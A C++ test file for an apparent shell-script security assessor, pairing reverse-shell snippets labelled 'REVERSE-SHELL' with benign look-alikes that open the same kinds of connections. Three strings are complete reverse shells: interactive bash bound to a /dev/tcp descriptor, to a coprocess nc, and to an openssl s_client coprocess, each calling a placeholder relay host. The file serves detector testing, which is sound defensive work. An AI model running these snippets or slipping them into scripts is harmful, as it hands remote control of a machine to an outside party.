// The classes the fifty-eighth round modelled (issue 14), found by programs
// written from the rubric alone by writers who never saw the assessor
// (tests/corpus/prog62_MANIFEST.tsv): backup and sync tools, monitoring
// agents, package managers and installers, less common standard-library
// modules, and shell that juggles descriptors and processes. Its aside
// scored 35/38 before any change; the classes below came from its tune part
// (59/62 before). Strings here are never executed.
#include "test_util.hpp"

namespace mai::assess::test {
namespace {

// `if ! exec 7<>/dev/tcp/...` parses as the redirections of the negation:
// they are exec's, and descriptor 7 stays the connection after it.
TEST(FiftyEighthRoundClasses, AnExecUnderANegationKeepsItsDescriptors) {
  const Case cases[] = {
      {"a shell on a descriptor opened under if !", B,
       "HOST=relay.example.net\n"
       "assist() {\n"
       "  if ! exec 7<>\"/dev/tcp/$HOST/8443\"; then\n"
       "    echo \"relay unreachable\" >&2\n"
       "    return 1\n"
       "  fi\n"
       "  /bin/bash -i <&7 >&7 2>&7\n"
       "}\n"
       "assist\n",
       "REVERSE-SHELL", SH},
      {"a ping on a descriptor opened under if !", L,
       "HOST=relay.example.net\n"
       "probe() {\n"
       "  if ! exec 7<>\"/dev/tcp/$HOST/8443\"; then\n"
       "    echo \"relay unreachable\" >&2\n"
       "    return 1\n"
       "  fi\n"
       "  printf \"PING\\n\" >&7\n"
       "  exec 7>&-\n"
       "}\n"
       "probe\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

// coproc CMD runs CMD beside the script, its output on ${COPROC[0]} and its
// input on ${COPROC[1]}: a network client there makes them the connection.
TEST(FiftyEighthRoundClasses, ACoprocessNetworkClientsDescriptorsAreTheConnection) {
  const Case cases[] = {
      {"an interactive shell wired to a coprocess nc", B,
       "coproc nc relay.example.net 8443\n"
       "bash -i <&\"${COPROC[0]}\" >&\"${COPROC[1]}\" 2>&1\n",
       "REVERSE-SHELL", SH},
      {"a shell wired to a coprocess group inside a function (the grammar has no coproc)", B,
       "RELAY_HOST=\"${RELAY_HOST:-assist.example.net}\"\n"
       "session() {\n"
       "  coproc RELAY { openssl s_client -quiet -connect \"${RELAY_HOST}:443\" 2>/dev/null; }\n"
       "  bash -i <&\"${RELAY[0]}\" >&\"${RELAY[1]}\" 2>&1\n"
       "}\n"
       "session\n",
       "REVERSE-SHELL", SH},
      {"a status line exchanged with a coprocess group inside a function", L,
       "RELAY_HOST=\"${RELAY_HOST:-status.example.net}\"\n"
       "session() {\n"
       "  coproc RELAY { openssl s_client -quiet -connect \"${RELAY_HOST}:443\" 2>/dev/null; }\n"
       "  printf \"STATUS\\n\" >&\"${RELAY[1]}\"\n"
       "  read -r reply <&\"${RELAY[0]}\"\n"
       "  echo \"$reply\"\n"
       "}\n"
       "session\n",
       nullptr, SH},
      {"a status line exchanged with a coprocess nc", L,
       "coproc nc status.example.net 8443\n"
       "printf \"STATUS\\n\" >&\"${COPROC[1]}\"\n"
       "read -r reply <&\"${COPROC[0]}\"\n"
       "echo \"$reply\"\n",
       nullptr, SH},
  };
  for (const auto& c : cases) check(c);
}

}  // namespace
}  // namespace mai::assess::test
